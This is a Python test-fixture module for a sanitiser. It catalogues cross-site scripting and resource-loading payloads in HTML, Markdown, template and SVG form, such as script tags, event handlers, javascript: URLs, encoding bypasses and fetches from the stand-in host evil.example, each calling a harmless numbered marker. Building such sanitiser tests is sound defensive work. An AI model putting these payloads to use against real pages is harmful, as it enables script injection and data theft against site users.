"""Ways of getting a script, a style or a request into a page, by kind: what `macros/sanitiser/` must not let through.

`{n}` is the number of the payload, so that one that works tells which it was; `evil.example` is a host of nobody.
"""

from __future__ import annotations

from collections.abc import Mapping

CALL = "__pwned.push({n})"

MARKUP: Mapping[str, tuple[str, ...]] = {
    "elements that run": (
        "<script>{call}</script>",
        "<ScRiPt>{call}</sCrIpT>",
        "<script/src=//evil.example/a.js></script>",
        "<script\n>{call}</script\n>",
        "</script><script>{call}</script>",
        "</textarea></title></style></noscript><script>{call}</script>",
        '<iframe srcdoc="&lt;script&gt;parent.{call}&lt;/script&gt;"></iframe>',
        '<iframe src="javascript:parent.{call}"></iframe>',
        '<object data="data:text/html,&lt;script&gt;parent.{call}&lt;/script&gt;"></object>',
        '<embed src="javascript:{call}">',
        '<noscript><p title="</noscript><img src=x onerror={call}>">',
        "<template><script>{call}</script></template>",
        '<math href="javascript:{call}"><mtext>m</mtext></math>',
        "<math><mtext><table><mglyph><style><img src=x onerror={call}></style></mglyph></table></mtext></math>",
        "<svg><style><img src=x onerror={call}></style></svg>",
    ),
    "event attributes": (
        "<img src=x onerror={call}>",
        "<img/src=x/onerror={call}>",
        "<img src=x onerror\n=\n{call}>",
        "<IMG SRC=x OnErRoR={call}>",
        '<img src="x` `<script>{call}</script>"` `>',
        "<svg onload={call}></svg>",
        "<svg/onload={call}>",
        "<body onload={call}>",
        "<details open ontoggle={call}>x</details>",
        "<input autofocus onfocus={call}>",
        "<video><source onerror={call}></video>",
        "<audio src=x onerror={call}></audio>",
        "<marquee onstart={call}>x</marquee>",
        '<b onmouseover="{call}">x</b>',
        '" onmouseover="{call}" x="',
        "' onfocus='{call}' autofocus tabindex='0' x='",
        '"><img src=x onerror={call}>',
        "'><svg onload={call}>",
        "<xss onpointerenter={call} style=position:fixed;inset:0>x</xss>",
    ),
    "addresses": (
        "<a href=javascript:{call}>x</a>",
        '<a href="&#106;avascript:{call}">x</a>',
        '<a href="java\tscript:{call}">x</a>',
        '<a href="java&Tab;script&colon;{call}">x</a>',
        '<a href="\x01javascript:{call}">x</a>',
        '<a href="vbscript:{call}">x</a>',
        '<a href="data:text/html,<script>{call}</script>">x</a>',
        '<form action="javascript:{call}"><button>x</button></form>',
        '<button formaction="javascript:{call}">x</button>',
        '<base href="http://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=http://evil.example/m">',
        '<link rel="stylesheet" href="http://evil.example/l.css">',
    ),
    "requests": (
        '<img src="http://evil.example/i.png">',
        '<img src="//evil.example/i.png">',
        '<img srcset="http://evil.example/s.png 2x" alt="">',
        '<picture><source srcset="http://evil.example/p.png"><img alt=""></picture>',
        '<video poster="http://evil.example/v.png"></video>',
        '<audio src="http://evil.example/a.mp3" autoplay></audio>',
        '<object data="http://evil.example/o"></object>',
        '<iframe src="http://evil.example/f"></iframe>',
        '<a href="#" ping="http://evil.example/ping">x</a>',
        '<input type="image" src="http://evil.example/n.png">',
        '<table background="http://evil.example/b.png"><tr><td>x</table>',
        "<style>@import 'http://evil.example/s.css';</style>",
        '<p style="background:url(http://evil.example/u.png)">x</p>',
        '<p style="width:expression({call})">x</p>',
        '<link rel="dns-prefetch" href="http://evil.example/">',
    ),
}
"""Payloads of HTML, by kind."""

MARKDOWN: Mapping[str, tuple[str, ...]] = {
    "Markdown": (
        "[x](javascript:{call})",
        "[x](JAVASCRIPT:{call})",
        "[x](&#106;avascript:{call})",
        "[x](javascript&colon;{call})",
        "[x](<java\tscript:{call}>)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        '[x](https://example.org/ "\\" onmouseover=\\"{call}")',
        "[x][k{n}]\n[k{n}]: javascript:{call}",
        "![x](javascript:{call})",
        "![x](http://evil.example/md.png)",
        '![" onerror="{call}](x.png)',
        "![x](x.png \"' onerror='{call}\")",
        "<javascript:{call}>",
        '<https://example.org/" onmouseover="{call}>',
        '{{: onclick="{call}" }}',
        "`<script>{call}</script>`",
        "*<img src=x onerror={call}>*",
    ),
    "templates and scripts": (
        "{{% raw %}}</script><script>{call}</script>{{% endraw %}}",
        "${{{call}}}",
        "`${{{call}}}`",
        "');{call};//",
        '"}};{call};//',
        "</script><!--<script>{call}</script>",
        "]]><script>{call}</script>",
        "-->}}<script>{call}</script>",
        "\u2028{call}",
        "\u202e<script>{call}</script>\u202c",
    ),
}
"""Payloads of Markdown, and of what stands around a text in a page."""

DRAWINGS: tuple[str, ...] = (
    "<script>{call}</script>",
    "<script xlink:href='http://evil.example/a.js'/>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>{call}</script>",
    "<x:script xmlns:x='http://www.w3.org/2000/svg'>{call}</x:script>",
    "<image href='#' onerror='{call}'/>",
    "<image href='javascript:{call}'/>",
    "<image href='http://evil.example/i.png' width='5' height='5'/>",
    "<image href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='/>",
    "<g onclick='{call}'><rect width='9' height='9'/></g>",
    "<svg onload='{call}'/>",
    "<animate onbegin='{call}' attributeName='x' dur='1s'/>",
    "<set attributeName='href' to='javascript:{call}'/>",
    "<a xlink:href='javascript:{call}'><text y='5'>x</text></a>",
    "<a href='&#106;avascript:{call}'><text y='5'>x</text></a>",
    "<a><animate attributeName='href' values='javascript:{call}'/><text y='5'>x</text></a>",
    "<use href='http://evil.example/u.svg#a'/>",
    "<use href='data:image/svg+xml,&lt;svg id=&apos;x&apos;/&gt;#x'/>",
    "<style>@import 'http://evil.example/s.css';</style>",
    "<style>circle {{ fill: url(http://evil.example/f.svg#a) }}</style>",
    "<style>circle {{ background: url(http://evil.example/b.png) }}</style>",
    "<style>@font-face {{ font-family: x; src: url(http://evil.example/f.woff) }}</style>",
    "<rect style='fill:url(http://evil.example/p.svg#a)' width='9' height='9'/>",
    "<rect fill='url(http://evil.example/p.svg#a)' width='9' height='9'/>",
    "<rect fill='u\\72l(http://evil.example/p.svg#a)' width='9' height='9'/>",
    "<rect style='background-image:image-set(\"http://evil.example/i.png\" 1x)' width='9' height='9'/>",
    "<rect mask='url(\"//evil.example/m.svg#a\")' width='9' height='9'/>",
    "<rect cursor='url(http://evil.example/c.cur),auto' width='9' height='9'/>",
    "<filter id='f'><feImage href='http://evil.example/fe.png'/></filter><rect filter='url(#f)' width='9' height='9'/>",
    "<foreignObject width='9' height='9'><p xmlns='http://www.w3.org/1999/xhtml' onclick='{call}'>x</p></foreignObject>",
    "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:{call}'/></foreignObject>",
    "<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script&gt;parent.{call}&lt;/script&gt;'/>",
    "<p><img src='x' onerror='{call}'/></p>",
    "<object xmlns='http://www.w3.org/1999/xhtml' data='http://evil.example/o'/>",
    "<video xmlns='http://www.w3.org/1999/xhtml' poster='http://evil.example/v.png'/>",
    "<handler xmlns='http://www.w3.org/2000/svg' type='application/ecmascript'>{call}</handler>",
    "<text xml:base='http://evil.example/' y='5'>x</text><image xml:base='http://evil.example/' href='i.png'/>",
    "<math xmlns='http://www.w3.org/1998/Math/MathML' href='javascript:{call}'/>",
    "<rect width='9' height='9' style='width:expression({call})'/>",
)
"""Payloads of SVG, each well-formed where `xlink` is declared."""


def numbered(*kinds: Mapping[str, tuple[str, ...]]) -> list[str]:
    """All payloads of some kinds, each with its own number."""
    found = [text for kind in kinds for texts in kind.values() for text in texts]
    return [payload(text, n) for n, text in enumerate(found)]


def payload(text: str, n: int) -> str:
    """A payload with its number."""
    return text.format(n=n, call=CALL.format(n=n))


def drawing(inside: str) -> bytes:
    """A drawing that holds a payload."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">'
    return f"{head}{inside}<circle r='2'/></svg>".encode()
